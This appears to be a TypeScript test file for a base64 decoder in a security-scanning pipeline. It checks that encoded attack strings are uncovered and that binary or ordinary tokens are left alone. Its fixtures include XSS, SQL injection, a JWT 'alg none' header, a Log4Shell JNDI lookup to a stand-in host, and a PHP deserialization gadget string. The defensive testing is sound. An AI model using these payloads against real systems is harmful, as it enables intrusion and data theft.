import { test } from 'node:test';
import assert from 'node:assert/strict';
import { isUtf8 } from 'node:buffer';
import { decodeBase64 } from './base64.ts';

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string) => Buffer.from(s, 'utf8').toString('base64url');

const CASES: [string, string][] = [
  [b64('<script>alert(1)</script>'), '<script>alert(1)</script>'],
  [b64("' OR 1=1 -- and more"), "' OR 1=1 -- and more"],
  [b64url('{"alg":"none","typ":"JWT"}'), '{"alg":"none","typ":"JWT"}'],
  [`${b64url('{"alg":"HS256"}')}.${b64url('{"sub":"1 UNION SELECT password FROM users"}')}.c2ln`, '{"alg":"HS256"}.{"sub":"1 UNION SELECT password FROM users"}.c2ln'],
  [`data=${b64('${jndi:ldap://evil/a}')}&x=1`, 'data=${jndi:ldap://evil/a}&x=1'],
  [`  ${b64('café ☕ and text')}  `, '  café ☕ and text  '],
  [b64('no padding here!!').replace(/=+$/, ''), 'no padding here!!'],
  // stays
  ['internationalization', 'internationalization'],
  ['ABCDEFGHIJKLMNOPQRSTUVWXYZ', 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'],
  ['d41d8cd98f00b204e9800998ecf8427e', 'd41d8cd98f00b204e9800998ecf8427e'],
  ['/usr/local/bin/something', '/usr/local/bin/something'],
  ['shortc2hvcnQ=', 'shortc2hvcnQ='],
  [b64('\u0000\u0001\u0002binary\u0003\u0004\u0005\u0006'), b64('\u0000\u0001\u0002binary\u0003\u0004\u0005\u0006')],
  [Buffer.from([0xff, 0xfe, 0xfd, 0x80, 0x81, 0x82, 0x83, 0x84, 0x85, 0x86, 0x87, 0x88]).toString('base64'), Buffer.from([0xff, 0xfe, 0xfd, 0x80, 0x81, 0x82, 0x83, 0x84, 0x85, 0x86, 0x87, 0x88]).toString('base64')],
  // one or two NULs in text are an evasion (the control-character layer removes them); three, or a NUL-filled
  // run (`AAAA...`), are binary
  [b64('<scr\u0000ipt src=//x.example/a.js></script>'), '<scr\u0000ipt src=//x.example/a.js></script>'],
  [b64('a\u0000b\u0000c\u0000 three NULs in some text'), b64('a\u0000b\u0000c\u0000 three NULs in some text')],
  ['AAAAAAAAAAAAAAAAAAAAAAAA', 'AAAAAAAAAAAAAAAAAAAAAAAA'],
  // a PHP serialized object's protected and private properties hold NULs: any number of them
  [b64('O:29:"Monolog\\Handler\\BufferHandler":3:{s:10:"\u0000*\u0000handler";N;s:9:"\u0000*\u0000buffer";N;s:8:"\u0000*\u0000level";N;}'),
    'O:29:"Monolog\\Handler\\BufferHandler":3:{s:10:"\u0000*\u0000handler";N;s:9:"\u0000*\u0000buffer";N;s:8:"\u0000*\u0000level";N;}'],
  ['PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=x', 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=x'],
  ['a+b-c_d/eeeeeeeeeeeeeeeeeeee', 'a+b-c_d/eeeeeeeeeeeeeeeeeeee'],
  ['Hello world, this is prose.', 'Hello world, this is prose.'],
];

for (const [input, expected] of CASES) {
  test(`base64 ${JSON.stringify(input).slice(0, 60)}`, () => {
    assert.equal(decodeBase64(input), expected);
  });
}

test('a short token (from 8 characters, in short values) counts only when it decodes to ASCII text', () => {
  assert.equal(decodeBase64('CloudTrail', 8), 'CloudTrail', 'a word that decodes to valid UTF-8 by chance (a line feed, an Arabic letter)');
  assert.equal(decodeBase64(b64("' or 1=1"), 8), "' or 1=1");
  assert.equal(decodeBase64(b64('카드'), 8), b64('카드'), 'non-ASCII text in a short token stays as written');
  assert.equal(decodeBase64(b64('결제 완료 카드 승인'), 8), '결제 완료 카드 승인', 'from 16 characters it decodes');
});

test('same string when nothing decodes; linear', () => {
  const s = 'plain words only';
  assert.equal(decodeBase64(s), s);
  const start = performance.now();
  decodeBase64('A'.repeat(1_000_000));
  decodeBase64('QUFB'.repeat(250_000));
  decodeBase64('ab=='.repeat(250_000));
  assert.ok(performance.now() - start < 1000);
});

test('UTF-8 edges: a token decodes exactly when its bytes are well-formed UTF-8 (as isUtf8 says)', () => {
  const text = 'hello there, friend ';
  const edges: number[][] = [
    [0xc3, 0xa9], [0xc0, 0xaf], [0xc1, 0xbf], [0xc2, 0x80], [0xe0, 0xa0, 0x80], [0xe0, 0x9f, 0xbf], [0xed, 0x9f, 0xbf],
    [0xed, 0xa0, 0x80], [0xef, 0xbf, 0xbf], [0xf0, 0x90, 0x80, 0x80], [0xf0, 0x8f, 0xbf, 0xbf], [0xf4, 0x8f, 0xbf, 0xbf],
    [0xf4, 0x90, 0x80, 0x80], [0xf5, 0x80, 0x80, 0x80], [0xff], [0x80], [0xe2, 0x82], [0xe2, 0x82, 0xac],
  ];
  for (const edge of edges) {
    const bytes = Buffer.from([...Buffer.from(text), ...edge, ...Buffer.from(text)]);
    const token = bytes.toString('base64');
    const expected = isUtf8(bytes) ? bytes.toString('utf8') : token;
    assert.equal(decodeBase64(token), expected, edge.map((b) => b.toString(16)).join(' '));
  }
});

test('long tokens (past the shared byte buffer) decode too', () => {
  const long = 'a sentence of plain text. '.repeat(2000);
  assert.equal(decodeBase64(Buffer.from(long).toString('base64')), long);
});
